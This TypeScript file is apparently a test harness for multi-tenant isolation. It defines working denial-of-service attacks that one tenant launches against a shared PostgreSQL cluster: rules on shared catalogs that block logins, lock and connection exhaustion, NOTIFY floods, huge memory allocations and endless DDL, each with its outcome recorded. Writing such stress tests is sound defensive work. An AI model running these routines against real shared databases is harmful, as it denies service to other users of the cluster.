/** What stock PostgreSQL gives to whoever can log in, turned against everybody else in the cluster. */
import { type Attack, aborted, describe, hold, Outcomes, repeat, session } from "./attack.ts";

/** A lock on a shared catalog that a second session waits for stands before every login. */
function sharedCatalogLock(name: string, reader: string, statement: string, short = false): Attack {
  return {
    name,
    short,
    run: ({ hostile }, until) =>
      repeat(until, 1, (signal) => hold(hostile, signal, ["begin", reader], ["select pg_sleep(0.1)", statement])),
  };
}

export const CLUSTER_ATTACKS: readonly Attack[] = [
  sharedCatalogLock(
    "logins wait for a rule on pg_database",
    "select count(*) from pg_database",
    "create rule r as on insert to pg_catalog.pg_database do instead nothing",
    true,
  ),
  sharedCatalogLock(
    "logins wait for a rule on pg_authid",
    "select count(*) from pg_roles",
    "create rule r as on insert to pg_catalog.pg_authid do instead nothing",
  ),
  sharedCatalogLock(
    "logins wait for a trigger on pg_db_role_setting",
    "select count(*) from pg_database",
    "create rule r as on insert to pg_catalog.pg_db_role_setting do instead nothing",
  ),
  {
    name: "300,000 advisory locks in a session",
    short: true,
    run: ({ hostile }, until) =>
      repeat(until, 1, (signal) =>
        hold(hostile, signal, ["begin", "select count(pg_advisory_lock(i)) from generate_series(1, 300000) i"]),
      ),
  },
  {
    name: "10,000 tables in one transaction",
    run: ({ hostile }, until) =>
      repeat(until, 1, (signal) =>
        hold(hostile, signal, [
          "begin",
          "do $$ begin for i in 1..10000 loop execute format('create table attack_%s (id int)', i); end loop; end $$",
        ]),
      ),
  },
  {
    name: "a listener that never reads, and NOTIFY without end",
    async run({ hostile }, until) {
      const flood =
        "do $$ begin for i in 1..20000 loop perform pg_notify('attack', repeat('x', 7900) || i); end loop; end $$";
      const listener = repeat(until, 1, (signal) => hold(hostile, signal, ["listen attack", "begin", "select 1"]));
      const flooding = repeat(until, 1, async () => {
        const client = await session(hostile);
        try {
          while (!until.aborted) await client.query(flood);
          return "went on to the end";
        } finally {
          await client.end().catch(() => {});
        }
      });
      const outcomes = await flooding;
      outcomes.add(`listener: ${await listener}`);
      return outcomes;
    },
  },
  {
    name: "all connections of three projects",
    async run({ hostile, others }, until) {
      const outcomes = new Outcomes();
      const projects = [hostile, ...others];
      const clients: { end(): Promise<void> }[] = [];
      while (!until.aborted && clients.length < 400)
        for (const project of projects) {
          const client = await session(project).catch((error: unknown) => {
            outcomes.add(describe(error));
            return null;
          });
          if (!client) {
            if (clients.length > 0) await new Promise((resume) => setTimeout(resume, 50));
            continue;
          }
          outcomes.add("session");
          client.once("end", () => outcomes.add("ended"));
          clients.push(client);
        }
      await aborted(until);
      await Promise.all(clients.map((client) => client.end().catch(() => {})));
      return outcomes;
    },
  },
  {
    name: "gigabytes in one backend",
    run: ({ hostile }, until) =>
      repeat(until, 1, (signal) =>
        hold(hostile, signal, [
          `do $$ declare a text; b text; c text; begin
             a := repeat('x', 600000000); b := a || ''; c := b || ''; perform pg_sleep(3); end $$`,
        ]),
      ),
  },
  {
    name: "sessions that end while others work",
    run: ({ hostile }, until) =>
      repeat(until, 4, async () => {
        const client = await session(hostile);
        await client.query("select pg_terminate_backend(pg_backend_pid())").catch(() => {});
        return "ended itself";
      }),
  },
  {
    name: "DDL without end",
    run: ({ hostile }, until) =>
      repeat(until, 2, async () => {
        const client = await session(hostile);
        try {
          for (let turn = 0; turn < 20 && !until.aborted; turn++)
            await client.query(`create table if not exists churn (id int); drop table if exists churn`);
          return "20 changes";
        } finally {
          await client.end().catch(() => {});
        }
      }),
  },
];
